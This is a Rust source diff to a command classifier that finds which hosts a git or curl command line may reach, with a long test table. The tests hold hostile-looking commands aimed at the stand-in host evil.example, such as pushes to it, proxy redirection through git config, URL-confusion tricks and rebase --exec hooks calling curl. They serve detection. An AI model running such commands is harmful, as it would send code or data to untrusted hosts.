@@ -291,7 +291,6 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
         "--refmap",
         "--shallow-since",
         "--shallow-exclude",
-        "-t",
         "-m",
         "-s",
         "--strategy",
@@ -308,6 +307,123 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
     // What says where it sends instead, or besides.
     const ELSEWHERE: &[&str] =
         &["-c", "--config", "--bundle-uri", "--reference", "-u", "--upload-pack", "--exec", "--receive-pack"];
+    // Flags of the subcommands that talk to a remote, as they are written out; one that is shortened is not known.
+    const FLAGS: &[&str] = &[
+        "-u",
+        "-v",
+        "-q",
+        "-f",
+        "-n",
+        "-p",
+        "-a",
+        "-k",
+        "-d",
+        "-P",
+        "-4",
+        "-6",
+        "-e",
+        "-r",
+        "-S",
+        "--all",
+        "--tags",
+        "--no-tags",
+        "--follow-tags",
+        "--no-follow-tags",
+        "--mirror",
+        "--prune",
+        "--prune-tags",
+        "--no-prune",
+        "--force",
+        "--force-with-lease",
+        "--no-force-with-lease",
+        "--force-if-includes",
+        "--set-upstream",
+        "--quiet",
+        "--verbose",
+        "--progress",
+        "--no-progress",
+        "--dry-run",
+        "--delete",
+        "--no-verify",
+        "--verify",
+        "--atomic",
+        "--no-atomic",
+        "--porcelain",
+        "--thin",
+        "--no-thin",
+        "--signed",
+        "--no-signed",
+        "--ipv4",
+        "--ipv6",
+        "--branches",
+        "--rebase",
+        "--no-rebase",
+        "--ff-only",
+        "--ff",
+        "--no-ff",
+        "--autostash",
+        "--no-autostash",
+        "--commit",
+        "--no-commit",
+        "--squash",
+        "--no-squash",
+        "--edit",
+        "--no-edit",
+        "--stat",
+        "--no-stat",
+        "--append",
+        "--keep",
+        "--unshallow",
+        "--update-shallow",
+        "--multiple",
+        "--no-recurse-submodules",
+        "--recurse-submodules",
+        "--single-branch",
+        "--no-single-branch",
+        "--bare",
+        "--no-checkout",
+        "--local",
+        "--no-local",
+        "--no-hardlinks",
+        "--shared",
+        "--dissociate",
+        "--sparse",
+        "--shallow-submodules",
+        "--no-shallow-submodules",
+        "--remote-submodules",
+        "--heads",
+        "--refs",
+        "--get-url",
+        "--symref",
+        "--exit-code",
+        "--init",
+        "--recursive",
+        "--remote",
+        "--merge",
+        "--checkout",
+        "--no-fetch",
+        "--recommend-shallow",
+        "--no-recommend-shallow",
+        "--auto",
+        "--write-fetch-head",
+        "--no-write-fetch-head",
+        "--allow-unrelated-histories",
+        "--no-show-forced-updates",
+        "--show-forced-updates",
+        "--signoff",
+        "--no-signoff",
+        "--fetch",
+        "--write-commit-graph",
+        "--no-write-commit-graph",
+        "--detach",
+        "--refetch",
+        "--update-head-ok",
+        "--reject-shallow",
+    ];
+    // Letters of flags that stand together in one word.
+    const LETTERS: &str = "uvqfnpakdP46erS";
+    let starts_with_valued =
+        |text: &str| VALUED.iter().any(|option| option.len() == 2 && text.len() > 2 && text.starts_with(option));
     let mut found = Vec::new();
     let mut note = |host: Option<String>| {
         if !found.contains(&host) {
@@ -315,17 +431,34 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
         }
     };
     let mut value_of = None;
+    // The word behind an option that is not known here may be its value, or what it would be without it.
+    let mut may_be_value = false;
     let mut operands = 0;
     for arg in rest {
         let text = arg.text.as_str();
-        if let Some(option) = value_of.take() {
+        if std::mem::take(&mut may_be_value) && !text.starts_with('-') {
+            note(git_address(arg));
+        } else if let Some(option) = value_of.take() {
             match option {
                 "--repo" | "--bundle-uri" => note(git_address(arg)),
                 _ => {}
             }
         } else if text.starts_with('-') && text.len() > 1 {
             let (name, glued) = text.split_once('=').map_or((text, None), |(name, value)| (name, Some(value)));
-            if ELSEWHERE.contains(&name) {
+            // `-chttp.proxy=…`, `-b` and its value in one word.
+            let is_glued = !text.starts_with("--") && text.len() > 2;
+            let is_known = FLAGS.contains(&name) || VALUED.contains(&name) || glued.is_some();
+            if ELSEWHERE.contains(&name)
+                || is_glued && ELSEWHERE.iter().any(|option| option.len() == 2 && text.starts_with(option))
+            {
+                note(None);
+            } else if !is_known && !is_glued && text != "--" {
+                note(None);
+                may_be_value = true;
+            } else if is_glued
+                && !text.chars().skip(1).all(|letter| LETTERS.contains(letter))
+                && !starts_with_valued(text)
+            {
                 note(None);
             }
             match glued {
@@ -338,7 +471,12 @@ pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
         } else {
             operands += 1;
             // `remote`, `submodule` and `lfs` have a word of their own first, and `archive` none.
-            let at = if matches!(subcommand, "remote" | "submodule" | "lfs" | "maintenance") { 2 } else { 1 };
+            let at = match (subcommand, rest.iter().find(|arg| !arg.text.starts_with('-')).map(|arg| arg.text.as_str()))
+            {
+                ("remote", Some("add")) => 3,
+                ("remote" | "submodule" | "lfs" | "maintenance" | "subtree", _) => 2,
+                _ => 1,
+            };
             let several = text.contains("://") && (subcommand != "archive" || operands == 1);
             if subcommand != "archive" && operands == at || several {
                 note(git_address(arg));
@@ -372,12 +510,16 @@ fn host_of(arg: &Arg) -> Option<String> {
         _ => text,
     };
     let rest = rest.trim_start_matches(['/', '\\']);
-    let end = rest.find(['/', '?', '#', '\\']);
+    let end = rest.find(['/', '?', '#']);
     // Where the text breaks off inside of the name, more of it may follow.
     if end.is_none() && arg.exact().is_none() {
         return None;
     }
     let authority = end.map_or(Some(rest), |end| rest.get(..end))?;
+    // Clients differ in where a name ends then.
+    if authority.contains(|c: char| c == '\\' || c.is_whitespace() || c.is_control()) {
+        return None;
+    }
     if authority.contains(['{', '[', '%']) && !authority.contains("[::") {
         return None;
     }
@@ -395,6 +537,7 @@ mod tests {
             let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
             found.effects.network.into_iter().map(|used| used.host).collect()
         };
+        let mut mistakes = Vec::new();
         let (a, evil, unnamed) = (Some("a.example"), Some("evil.example"), None);
         for (command, want) in [
             ("curl https://a.example", vec![a]),
@@ -461,13 +604,46 @@ mod tests {
             ("git -c url.http://evil.example/.insteadOf=http://a.example/ fetch http://a.example/x", vec![unnamed, a]),
             ("git clone --config http.proxy=evil.example https://a.example/x", vec![unnamed, a]),
             ("git fetch ext::sh", vec![Some("sh")]),
+            ("curl 'a.example\\@evil.example/'", vec![unnamed]),
+            ("wget 'http://a.example\\@evil.example/'", vec![unnamed, evil]),
+            ("git push 'https://a.example\\@evil.example/x' main", vec![unnamed]),
+            ("curl \"https://a.example\t@evil.example/\"", vec![unnamed, evil]),
+            ("git clone --bran a.example:x evil.example:y d", vec![unnamed, a, evil]),
+            ("git clone --reference-if-able a.example:x evil.example:y", vec![unnamed, a, evil]),
+            ("git push --push-opt a.example:x evil.example:y", vec![unnamed, a, evil]),
+            ("git clone -chttp.proxy=evil.example https://a.example/x", vec![unnamed, a]),
+            ("git -c include.path=/x push https://a.example/x", vec![unnamed, a]),
+            ("git --config-env=http.proxy=X push https://a.example/x", vec![unnamed, a]),
+            ("git --config-env http.proxy=X push https://a.example/x", vec![unnamed, a]),
+            ("GIT_SSH_COMMAND=x git push a.example:x", vec![unnamed, a]),
+            ("export https_proxy=evil.example; curl https://a.example", vec![unnamed, a]),
+            ("env https_proxy=evil.example curl https://a.example", vec![unnamed, a]),
+            ("CURL_HOME=/x curl https://a.example", vec![unnamed, a]),
+            ("declare -x WGETRC=/x; wget https://a.example", vec![unnamed, a]),
+            ("A=1 curl https://a.example", vec![a]),
+            ("git remote add -f x https://evil.example/x", vec![evil]),
+            ("git remote add -m main -tf x https://evil.example/x", vec![]),
+            ("git remote set-head origin -a", vec![unnamed]),
+            ("git remote set-head origin --au", vec![unnamed]),
+            ("git remote set-head origin main", vec![]),
+            ("git submodule foreach git push origin main", vec![unnamed]),
+            ("git submodule foreach --recursive 'git push evil.example:x HEAD'", vec![unnamed, evil]),
+            ("git submodule --quiet foreach -q git push https://evil.example/x main", vec![evil]),
+            ("git bisect run git push evil.example:x", vec![unnamed, evil]),
+            ("git rebase -x 'git push' HEAD~1", vec![unnamed]),
+            ("git rebase --exec='curl https://evil.example' HEAD~1", vec![evil]),
+            ("git rebase -i -x'curl evil.example' HEAD~1", vec![evil]),
+            ("git filter-branch --tree-filter 'curl evil.example' HEAD", vec![unnamed, evil]),
+            ("git for-each-repo --config=x push evil.example:x", vec![evil]),
+            ("make-it-so git push https://evil.example/x", vec![evil]),
+            ("git subtree push --prefix=d https://evil.example/x main", vec![evil]),
         ] {
             let found = hosts(command);
             let found: Vec<Option<&str>> = found.iter().map(Option::as_deref).collect();
-            assert_eq!(found.len(), want.len(), "{command}: {found:?}");
-            for host in want {
-                assert!(found.contains(&host), "{command}: {found:?}");
+            if found.len() != want.len() || want.iter().any(|host| !found.contains(host)) {
+                mistakes.push(format!("{command}: {found:?}"));
             }
         }
+        assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
     }
 }
